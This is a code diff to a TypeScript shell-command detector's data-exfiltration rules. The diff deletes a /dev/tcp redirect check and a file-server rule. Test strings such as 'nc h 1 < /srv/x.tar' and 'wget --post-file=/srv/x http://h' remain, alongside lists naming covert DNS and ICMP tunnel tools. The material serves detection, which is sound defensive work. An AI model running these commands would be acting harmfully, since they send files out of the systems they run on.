@@ -1,6 +1,6 @@
 /** Taking things away, openly or through channels that were made for something else. */
 import type { Program, ShellReading } from '../shell.ts';
-import { isDownloader, isInterpreter, isShell, isSocket } from './execution.ts';
+import { isDownloader, isShell, isSocket } from './execution.ts';
 import { hasOption, joined, operands, optionValue, shows, sourcesOf, type Rule } from './rule.ts';
 import { isAmong, normalised, pathsNamed, sharedFolder } from './paths.ts';
 import { sensitive } from './collection.ts';
@@ -8,7 +8,6 @@ import { hashStores, lookers, names, userStores } from './stores.ts';
 
 const askers = names('dig nslookup host drill ping ping6 hping3 kdig resolvectl');
 const textEncoders = names('base64 base32 xxd b64encode od hexdump openssl');
-const servers = names('updog miniserve webfsd');
 const copiers = names('scp rsync sftp tftp ftp');
 const proxies = names('torsocks torify proxychains proxychains4 tor');
 const covertTunnels = names('iodine iodined dnscat dnscat2 ptunnel ptunnel-ng udp2raw icmptunnel hans gost');
@@ -75,7 +74,6 @@ function sentSource(program: Program, reading: ShellReading): Program | undefine
 
 const asksWhoIAm = names('whoami id uname ifconfig env printenv ps w who netstat ip last crontab history ss');
 const encoders = names('base64 base32 xxd hexdump od gzip openssl basenc uuencode b64encode hex');
-const readers = names('cat base64 base32 xxd tar gzip zip hexdump od head tail dd openssl uuencode sed awk gpg strings');
 
 /** Names asked of the DNS, and pings, that carry what another program gave. */
 function carriesInQuestion(program: Program, reading: ShellReading): boolean {
@@ -95,9 +93,6 @@ const rawChannel = shows([
   ['smbclient', /-c ['"]?put /],
   ['mosquitto_pub', /(^| )-f /],
 ]);
-
-/** `/dev/tcp/h/1`, written by something that reads files. */
-const socketFile = /^\/dev\/(tcp|udp)\//;
 
 export const exfiltration: readonly Rule[] = [
   {
@@ -178,11 +173,6 @@ export const exfiltration: readonly Rule[] = [
     points: 30,
     find(program, reading) {
       if (rawChannel(program)) return `moves data with ${program.name}, which is not for it`;
-      if (
-        program.redirects.some(({ operator, target }) => socketFile.test(target) && operator.startsWith('>')) &&
-        readers.has(program.name)
-      )
-        return 'writes what it reads to the network';
       if (!isSocket(program)) return null;
       const file = program.redirects.find(
         ({ operator, target }) => operator === '<' && /^[/~]/.test(target) && !target.startsWith('/dev/'),
@@ -195,7 +185,6 @@ export const exfiltration: readonly Rule[] = [
     },
     suspicious: [
       'nc h 1 < /srv/x.tar',
-      'cat x > /dev/tcp/192.0.2.1/443',
       'socat -u file:/srv/x tcp:h:1',
       'base64 x | nc h 1',
       'wget --post-file=/srv/x http://h',
@@ -244,24 +233,6 @@ export const exfiltration: readonly Rule[] = [
       'curl http://h/$VERSION',
       'curl -o docker-compose "https://h/$(uname -s)-$(uname -m)"',
     ],
-  },
-  {
-    code: 'FILE_SERVER',
-    tactic: 'EXFILTRATION',
-    points: 15,
-    find(program) {
-      const words = joined(program);
-      const served =
-        (isInterpreter(program) &&
-          /-m (http\.server|SimpleHTTPServer|pyftpdlib|uploadserver)|-S (0\.0\.0\.0|\[::\])|-run -e ?httpd|HTTPServer|http\.createServer/i.test(
-            words,
-          )) ||
-        (program.name === 'httpd' && program.via.includes('busybox')) ||
-        servers.has(program.name);
-      return served ? 'hands out files to whoever asks' : null;
-    },
-    suspicious: ['python3 -m http.server 80', 'php -S 0.0.0.0:80', 'busybox httpd -f -p 80', 'ruby -run -e httpd .'],
-    harmless: ['php -S localhost:8000', 'python3 -m json.tool', 'httpd -k start', 'node server.js'],
   },
   {
     code: 'TUNNEL',
